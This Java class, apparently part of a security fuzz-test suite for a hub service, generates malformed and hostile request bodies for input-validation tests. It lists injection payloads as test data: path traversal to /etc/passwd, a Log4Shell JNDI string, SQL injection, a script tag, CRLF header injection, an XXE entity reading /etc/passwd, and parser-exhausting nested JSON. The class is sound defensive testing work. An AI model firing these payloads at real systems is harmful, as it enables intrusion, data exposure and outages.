package org.esphub.hub.security.fuzz;

import com.fasterxml.jackson.core.JsonGenerator;
import com.fasterxml.jackson.core.JsonPointer;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.Random;
import java.util.function.Function;

/**
 * What an attacker or a broken client sends, drawn from a seeded random source so that a run is
 * reproducible ({@code -Dfuzz.seed=...}): odd ids, unicode, oversize strings, wrong types, nulls in
 * arrays, malformed and deeply nested JSON, and valid requests with one such value put into a
 * field that the hub must check (an id, a code, a timestamp, a structure).
 */
public final class HostileInput {

    /** JSON text with every non-ASCII character escaped, so lone surrogates survive as {@code \\uD800}. */
    private static final ObjectMapper JSON = new ObjectMapper().configure(JsonGenerator.Feature.ESCAPE_NON_ASCII, true);
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Ids that have steered or broken agency calls and storage: traversal, placeholders, options. */
    public static final List<String> ODD_IDS = List.of("..", ".", "{{env:HOME}}", "1?httpMethod=DELETE", "%2e%2e",
            "../../etc/passwd", "${jndi:ldap://example.invalid/a}", "#{7*7}", "a/b", "a\\b", " ", "",
            "1;DROP TABLE esp_consent", "<script>alert(1)</script>");

    /** Unicode a column or a log may choke on: emoji, right-to-left override, NUL, lone surrogates. */
    public static final List<String> UNICODE = List.of("😀", "😀".repeat(50), "\u202Eevil\u202C", "ab\u0000cd",
            "\uD800", "\uDC00x", "\uFEFF", "\u0007\u001B[31m", "名前", "\u0301\u0301\u0301", "\r\nX-Injected: 1");

    private final Random random;

    public HostileInput(long seed) {
        this.random = new Random(seed);
    }

    public <T> T oneOf(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    public int below(int bound) {
        return random.nextInt(bound);
    }

    /** A string no id field should take: odd, unicode, or oversize (300 characters to 1 MB). */
    public String hostileString() {
        return switch (random.nextInt(4)) {
            case 0 -> oneOf(ODD_IDS);
            case 1 -> oneOf(UNICODE);
            case 2 -> "x".repeat(oneOf(List.of(256, 300, 1000, 5000)));
            default -> oneOf(List.of("A".repeat(70_000), "😀".repeat(20_000), "9".repeat(1_000_000)));
        };
    }

    /** A value of any JSON type that does not belong where a string or structure is expected. */
    public JsonNode hostileValue() {
        return switch (random.nextInt(8)) {
            case 0, 1, 2 -> NODES.textNode(hostileString());
            case 3 -> NODES.nullNode();
            case 4 -> oneOf(List.<JsonNode>of(NODES.numberNode(-1), NODES.numberNode(Long.MAX_VALUE),
                    NODES.numberNode(1e308), NODES.numberNode(0.5)));
            case 5 -> NODES.booleanNode(random.nextBoolean());
            case 6 -> NODES.arrayNode().add(NODES.nullNode()).add(NODES.nullNode());
            default -> NODES.objectNode().set("$ref", NODES.textNode("#/" + oneOf(ODD_IDS)));
        };
    }

    /** Arrays in arrays, {@code depth} deep, as text (deeper than Jackson writes). */
    public static String nested(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    /**
     * A body that is not the request at all: malformed, truncated, the wrong JSON type, deeply
     * nested text no parser should descend, or far over any sensible size.
     */
    public String hostileBody(String validBody) {
        return switch (random.nextInt(10)) {
            case 0 -> oneOf(List.of("", " ", "{", "}", "{\"a\":", "{'a':1}", "{\"a\":1,}", "[1,2", "nul", "\u0000"));
            case 1 -> validBody.substring(0, random.nextInt(Math.max(1, validBody.length())));
            case 2 -> oneOf(List.of("null", "[]", "[null]", "\"text\"", "42", "true", "{}"));
            case 3 -> "[".repeat(oneOf(List.of(1_000, 10_000, 100_000)));
            case 4 -> "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000);
            case 5 -> "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
            case 6 -> validBody + validBody;
            case 7 -> "{\"pad\":\"" + "p".repeat(2 * 1024 * 1024) + "\"," + validBody.substring(1);
            case 8 -> validBody.replaceFirst("\\{", "{\"" + "k".repeat(100_000) + "\":1,");
            default -> "\uFEFF\uD800" + validBody;
        };
    }

    /**
     * The template with a hostile value at one of the given JSON pointers; a pointer ending in
     * {@code ?} names an optional field, which gets anything but null.
     */
    public String withHostileField(ObjectNode template, List<String> pointers) {
        ObjectNode copy = template.deepCopy();
        String pointer = oneOf(pointers);
        boolean optional = pointer.endsWith("?");
        JsonPointer at = JsonPointer.compile(optional ? pointer.substring(0, pointer.length() - 1) : pointer);
        JsonNode parent = copy.at(at.head());
        // one in nine: arrays nested deeper than a parser should descend, spliced in as text
        boolean deep = random.nextInt(9) == 0;
        String marker = "deep-nesting-" + random.nextLong();
        JsonNode value = deep ? NODES.textNode(marker) : hostileValue();
        while (optional && value.isNull()) {
            // an optional field may be null: that is a valid request, not a hostile one
            value = hostileValue();
        }
        if (parent instanceof ObjectNode object) {
            object.set(at.last().getMatchingProperty(), value);
        } else if (parent instanceof ArrayNode array) {
            array.set(at.last().getMatchingIndex(), value);
        }
        String body = write(copy);
        return deep ? body.replace("\"" + marker + "\"", nested(oneOf(List.of(50, 500, 3000)))) : body;
    }

    /** A fresh valid body (new ids each time), then either broken as a whole or in one field. */
    public String mutated(Function<Integer, ObjectNode> template, List<String> pointers) {
        ObjectNode valid = template.apply(random.nextInt(Integer.MAX_VALUE));
        return random.nextInt(3) == 0 ? hostileBody(write(valid)) : withHostileField(valid, pointers);
    }

    public static String write(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    public static ObjectNode parse(String json) {
        try {
            return (ObjectNode) JSON.readTree(json);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
